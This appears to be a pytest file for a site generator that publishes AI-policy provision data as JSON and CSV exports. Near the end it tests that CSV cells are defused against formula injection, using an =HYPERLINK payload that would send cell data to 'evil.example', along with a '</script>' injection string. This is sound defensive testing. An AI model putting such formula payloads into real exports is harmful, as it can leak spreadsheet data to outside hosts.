"""Open data: the JSON API, the JSON and CSV exports, the published schemas, the downloads page; CSV formula safety."""
from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest
import yaml

from conftest import BASIC, REPO, edit, messages, run_build, soup

BASE = "https://example.org/atlas/"  # the fixture's site URL


def _json(site: Path, path: str) -> dict:
    return json.loads((site / path).read_text(encoding="utf-8"))


def _export(site: Path) -> list[dict]:
    """The bulk download: every provision's file, a line each, gzip-compressed."""
    text = gzip.decompress((site / "api/v1/provisions.jsonl.gz").read_bytes()).decode("utf-8")
    assert text.endswith("\n")
    return [json.loads(line) for line in text.splitlines()]


def _csv(site: Path, path: str) -> list[dict[str, str]]:
    raw = (site / path).read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def _fixture_provision_keys(root: Path = BASIC) -> list[str]:
    return sorted(f"{p.parts[-3]}/{p.parts[-2]}/{p.stem}" for p in (root / "content").glob("*/*/*.yaml")
                  if p.name != "document.yaml")


def _local(site: Path, url: str) -> Path:
    """The output file an absolute URL under the fixture's base URL points at."""
    assert url.startswith(BASE), url
    rel = url[len(BASE):]
    return site / (rel + "index.html" if rel.endswith("/") or not rel else rel)


def test_api_index_links_to_every_record_file(basic_site: Path) -> None:
    index = _json(basic_site, "api/v1/index.json")
    assert index["api_version"] == "v1"
    assert index["licence"]["id"] == "CC-BY-4.0" and index["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert index["counts"] == {"platforms": 3, "documents": 3, "provisions": 5, "clause_types": 2, "regulations": 2}
    assert [p["id"] for p in index["platforms"]] == ["alpha", "beta", "gamma"]
    assert [d["id"] for d in index["documents"]] == ["alpha/policy", "beta/policy", "gamma/policy"]
    assert [t["id"] for t in index["clause_types"]] == ["child-safety", "training-on-inputs"]
    assert [g["id"] for g in index["regulations"]] == ["eu-ai-act", "coppa"]
    for kind in ("platforms", "documents", "clause_types", "regulations"):
        for item in index[kind]:
            assert _local(basic_site, item["links"]["self"]).is_file(), item
            assert _local(basic_site, item["permalink"]).is_file(), item
            assert (basic_site / item["path"] / "index.html").is_file(), item
    links = index["links"]
    for url in [links["self"], links["downloads"], links["matrix"], *links["exports"].values(),
                *links["schemas"].values()]:
        assert _local(basic_site, url).exists(), url


def test_each_record_file_has_its_permalink_and_links(basic_site: Path) -> None:
    index = _json(basic_site, "api/v1/index.json")
    references = [ref for t in index["clause_types"] for ref in _json(basic_site, f"api/v1/clause-types/{t['id']}.json")["provisions"]]
    assert sorted(ref["id"] for ref in references) == _fixture_provision_keys()
    for reference in references:
        record = _json(basic_site, reference["links"]["self"][len(BASE):])
        assert record["id"] == reference["id"]
        assert record["permalink"] == BASE + f"platforms/{record['id']}/"
        assert record["links"]["self"] == BASE + f"api/v1/provisions/{record['id']}.json"
        # The permalink is the page's canonical URL.
        page = soup(basic_site, record["path"])
        assert page.find("link", rel="canonical")["href"] == record["permalink"]
        for key in ("platform", "document", "clause_type"):
            assert _local(basic_site, record["links"][key]).is_file()
        for url in record["links"]["regulations"]:
            assert _local(basic_site, url).is_file()


def test_provision_record_holds_what_the_yaml_says(basic_site: Path) -> None:
    record = _json(basic_site, "api/v1/provisions/alpha/policy/child-safety.json")
    source = yaml.safe_load((BASIC / "content/alpha/policy/child-safety.yaml").read_text(encoding="utf-8"))
    for key in ("title", "clause_type", "position", "severity", "summary", "why_it_matters", "confidence"):
        assert record[key] == source[key], key
    assert record["excerpt"]["text"] == source["excerpt"]["text"]
    assert record["excerpt"]["verified"] is True
    assert record["regulations"] == [{"regulation": r["regulation"], "articles": r["articles"], "rationale": r["rationale"]}
                                     for r in source["regulations"]]
    assert record["compliance"]["governance_exposure"] == {"level": "high", "text": "Exposure text."}
    assert record["changes"][0]["previous_text"] == source["changes"][0]["previous_text"]
    assert record["first_seen"] == "2026-01-10"
    assert record["derived"] == {"platforms_with_clause_type": 2, "platforms_total": 3, "changes": 1, "months_monitored": 3}


def test_platform_document_clause_type_and_regulation_files(basic_site: Path) -> None:
    beta = _json(basic_site, "api/v1/platforms/beta.json")
    assert beta["name"] == "Beta Labs" and beta["permalink"] == BASE + "platforms/beta/"
    assert [p["id"] for p in beta["provisions"]] == ["beta/policy/minors", "beta/policy/old-clause"]
    assert [p["status"] for p in beta["provisions"]] == ["active", "removed"]
    document = _json(basic_site, "api/v1/documents/alpha/policy.json")
    assert [v["captured"] for v in document["versions"]] == ["2026-01-10", "2026-02-15", "2026-04-01"]
    assert all(v["hash_verified"] for v in document["versions"])
    assert _local(basic_site, document["versions"][0]["snapshot"]).is_file()
    clause_type = _json(basic_site, "api/v1/clause-types/training-on-inputs.json")
    assert {x["id"]: x["provisions"] for x in clause_type["positions"]} == {"opt-in": 1, "opt-out": 0, "always": 2}
    assert clause_type["platforms_with_type"] == 3
    regulation = _json(basic_site, "api/v1/regulations/eu-ai-act.json")
    assert regulation["mappings"] == [{
        "id": "alpha/policy/child-safety", "title": "Child safety ban", "platform": "alpha", "document": "alpha/policy",
        "clause_type": "child-safety", "position": "prohibited", "severity": "high", "status": "active",
        "links": {"self": BASE + "api/v1/provisions/alpha/policy/child-safety.json"}, "articles": ["art-5"]}]
    # The rationale of the mapping is in the provision's own file.
    provision = _json(basic_site, "api/v1/provisions/alpha/policy/child-safety.json")
    assert provision["regulations"][0] == {"regulation": "eu-ai-act", "articles": ["art-5"],
                                           "rationale": "The Act bans some practices outright."}


def test_records_carry_exactly_the_documented_fields(basic_site: Path) -> None:
    from atlas import records as r
    envelope = {"api_version", "licence", "as_of"}
    documented = {
        "api/v1/platforms/alpha.json": r.PLATFORM_FIELDS, "api/v1/documents/alpha/policy.json": r.DOCUMENT_FIELDS,
        "api/v1/provisions/alpha/policy/child-safety.json": r.PROVISION_FIELDS,
        "api/v1/clause-types/child-safety.json": r.CLAUSE_TYPE_FIELDS, "api/v1/regulations/coppa.json": r.REGULATION_FIELDS,
    }
    for path, fields in documented.items():
        assert set(_json(basic_site, path)) == {name for name, _ in fields} | envelope, path
    reference = {name for name, _ in r.PROVISION_REFERENCE_FIELDS}
    for path in ("api/v1/documents/alpha/policy.json", "api/v1/clause-types/child-safety.json"):
        assert all(set(item) == reference for item in _json(basic_site, path)["provisions"]), path
    assert all(set(item) == reference | {"articles"} for item in _json(basic_site, "api/v1/regulations/coppa.json")["mappings"])
    assert all(set(item) == {name for name, _ in r.PLATFORM_PROVISION_FIELDS}
               for item in _json(basic_site, "api/v1/platforms/alpha.json")["provisions"])


def test_references_agree_with_the_whole_records(basic_site: Path) -> None:
    """A file listing provisions holds each by reference, with the same values as the provision's own file."""
    records = {p["id"]: p for p in _export(basic_site)}
    listed = 0
    for path in sorted(p for folder in ("platforms", "documents", "clause-types", "regulations")
                       for p in (basic_site / "api/v1" / folder).rglob("*.json")):
        data = json.loads(path.read_text(encoding="utf-8"))
        for item in data.get("provisions", []) + data.get("mappings", []):
            record, listed = records[item["id"]], listed + 1
            assert item["links"]["self"] == record["links"]["self"]
            for key in set(item) - {"links", "articles"}:
                assert item[key] == record[key], (path.name, key)
            assert "why_it_matters" not in item and "compliance" not in item  # not embedded in full
    assert listed == 5 * 3 + 2  # each provision in its platform's, document's and clause type's file; 2 mappings


def test_full_json_export_counts_the_records(basic_site: Path) -> None:
    raw = (basic_site / "api/v1/provisions.jsonl.gz").read_bytes()
    assert raw[4:8] == b"\0\0\0\0"  # no time in the gzip header: the same records give the same bytes
    export = _export(basic_site)
    assert [p["id"] for p in export] == _fixture_provision_keys()
    # Each line is the content of the provision's own file, licence included.
    lines = gzip.decompress(raw).splitlines(keepends=True)
    for line, record in zip(lines, export):
        assert line == (basic_site / f"api/v1/provisions/{record['id']}.json").read_bytes()
        assert record["licence"]["name"] == "Creative Commons Attribution 4.0"


def test_json_is_compact_sorted_and_safe_to_embed(monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import date

    from atlas.render import json_text
    from atlas.urls import SiteUrl

    def pure_python_encoder(*args: object, **kwargs: object) -> None:
        raise AssertionError("json_text must use the C encoder (json.dumps with indent does not)")

    monkeypatch.setattr(json.encoder, "_make_iterencode", pure_python_encoder)
    text = json_text({"b": "</script>&\u2028\u2029", "a": [1, {"d": None, "c": date(2026, 1, 2)}], "u": SiteUrl("x/")},
                     "https://example.org/")
    assert text == ('{"a":[1,{"c":"2026-01-02","d":null}],"b":"\\u003c/script\\u003e\\u0026\\u2028\\u2029",'
                    '"u":"https://example.org/x/"}\n')


def test_a_rebuild_builds_only_the_record_files_a_change_reaches(kb: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Record files are built when rendered (Deferred), so an unchanged one costs nothing to rebuild."""
    import functools

    from atlas.pages import data
    from atlas.pipeline import BuildOptions, build
    site = tmp_path / "site"
    assert run_build(kb, site).ok
    built: list[str] = []
    original = data.record_file

    @functools.wraps(original)  # the same name, so the pages' keys are those of the first build
    def noting(record: object, graph: object) -> dict:
        built.append(data.api_url(record))
        return original(record, graph)

    monkeypatch.setattr(data, "record_file", noting)
    edit(kb / "content/alpha/policy/child-safety.yaml", "summary: Summary of Child safety ban at alpha.",
         "summary: A new summary.")
    assert build(BuildOptions(root=kb, out=site, search=False, jobs=1)).ok
    assert "api/v1/provisions/alpha/policy/child-safety.json" in built
    # Files that read it may be rendered again (to the same bytes: those listing it, and those of provisions of its
    # clause type, whose count they show); the others are not.
    others = ("api/v1/provisions/alpha/policy/training.json", "api/v1/provisions/gamma/policy/customer-content.json",
              "api/v1/platforms/gamma.json", "api/v1/clause-types/training-on-inputs.json")
    assert not set(others) & set(built), built
    assert _json(site, "api/v1/provisions/alpha/policy/child-safety.json")["summary"] == "A new summary."
    assert next(p for p in _export(site) if p["id"] == "alpha/policy/child-safety")["summary"] == "A new summary."


def test_csv_export_counts_and_matches_the_json(basic_site: Path) -> None:
    from atlas.pages.data import PROVISION_CSV_COLUMNS
    rows = _csv(basic_site, "api/v1/provisions.csv")
    assert (basic_site / "api/v1/provisions.csv").read_bytes().count(b"\r\n") >= 6
    assert list(rows[0]) == [c.name for c in PROVISION_CSV_COLUMNS]
    assert [row["id"] for row in rows] == _fixture_provision_keys()
    records = {p["id"]: p for p in _export(basic_site)}
    for row in rows:
        record = records[row["id"]]
        assert row["title"] == record["title"]
        assert row["excerpt"] == record["excerpt"]["text"]
        assert row["permalink"] == record["permalink"]
        assert row["quote_verified"] == ("true" if record["excerpt"]["verified"] else "false")
    alpha = next(row for row in rows if row["id"] == "alpha/policy/child-safety")
    assert alpha["regulations"] == "eu-ai-act (art-5); coppa (sec-312-5)"
    assert alpha["platform_name"] == "Alpha AI" and alpha["changes"] == "1" and alpha["last_change"] == "2026-02-15"


def test_schemas_are_published_at_their_ids(basic_site: Path) -> None:
    from atlas.validate import RECORD_KINDS
    for kind in RECORD_KINDS:
        published = basic_site / f"schemas/v1/{kind}.schema.json"
        source = REPO / f"atlas/schemas/{kind}.schema.json"
        assert published.read_bytes() == source.read_bytes()
        assert json.loads(published.read_text(encoding="utf-8"))["$id"].endswith(f"/schemas/v1/{kind}.schema.json")


def test_downloads_page_describes_every_file_and_field(basic_site: Path) -> None:
    from atlas import records as r
    from atlas.pages.data import PROVISION_CSV_COLUMNS
    page = soup(basic_site, "downloads/")
    licence = page.select_one("#licence-h").find_parent("section")
    assert licence.find("a", rel="license")["href"] == "https://creativecommons.org/licenses/by/4.0/"
    sections = {s.h3["id"]: s for s in page.select("section.data-file")}

    def names(section_id: str) -> list[str]:
        return [th.get_text() for th in sections[section_id].select("tbody th")]

    assert names("file-provisions-csv") == [c.name for c in PROVISION_CSV_COLUMNS]
    assert names("file-provisions") == [n for n, _ in r.PROVISION_FIELDS]
    assert names("file-platforms") == [n for n, _ in r.PLATFORM_FIELDS]
    for section in sections.values():
        for a in section.select("a[href]"):
            assert (basic_site / "downloads" / a["href"]).resolve().is_file(), a["href"]
    published = {p.relative_to(basic_site).as_posix() for p in (basic_site / "api").rglob("*") if p.is_file()}
    described = " ".join(s.select_one("p code").get_text() for s in sections.values())
    for path in published:  # every file is described, by its path or by its family's pattern
        family = path.split("/")[2] if path.count("/") > 2 else path
        assert path in described or f"api/v1/{family}/" in described, path
    schema_links = [a["href"] for a in page.select("#schemas-h ~ ul a")]
    assert len(schema_links) == 8


def test_urls_follow_the_base_url(tmp_path: Path) -> None:
    out = tmp_path / "site"
    assert run_build(BASIC, out, base_url="https://data.example.net/sub/").ok
    index = _json(out, "api/v1/index.json")
    assert index["links"]["self"] == "https://data.example.net/sub/api/v1/index.json"
    assert index["platforms"][0]["permalink"] == "https://data.example.net/sub/platforms/alpha/"
    assert _csv(out, "api/v1/provisions.csv")[0]["permalink"].startswith("https://data.example.net/sub/platforms/")


@pytest.mark.parametrize("text", ["=HYPERLINK(\"https://evil.example\",\"x\")", "+1+2", "-2+3", "@SUM(A1)",
                                  "\tTabbed", "\rCarriage"])
def test_safe_cell_defuses_formulas(text: str) -> None:
    from atlas.csv_export import safe_cell
    assert safe_cell(text) == "'" + text
    assert safe_cell("Plain text = fine") == "Plain text = fine"


def test_formula_injection_in_a_record_is_defused(kb: Path, tmp_path: Path) -> None:
    source = kb / "content/alpha/policy/child-safety.yaml"
    edit(source, "title: Child safety ban", "title: '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")'")
    edit(source, "summary: Summary of Child safety ban at alpha.", "summary: '@SUM(1+1)</script><b>x</b>'")
    out = tmp_path / "site"
    result = run_build(kb, out)
    assert result.ok, messages(result)
    rows = {row["id"]: row for row in _csv(out, "api/v1/provisions.csv")}
    row = rows["alpha/policy/child-safety"]
    assert row["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    assert row["summary"].startswith("'@SUM")
    for cells in rows.values():  # no cell of any row can start a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())
    # JSON keeps the text as written, escaped so that it cannot close a script element if embedded.
    raw = (out / "api/v1/provisions/alpha/policy/child-safety.json").read_text(encoding="utf-8")
    assert "</script>" not in raw and "<b>" not in raw
    assert json.loads(raw)["title"].startswith("=HYPERLINK(")
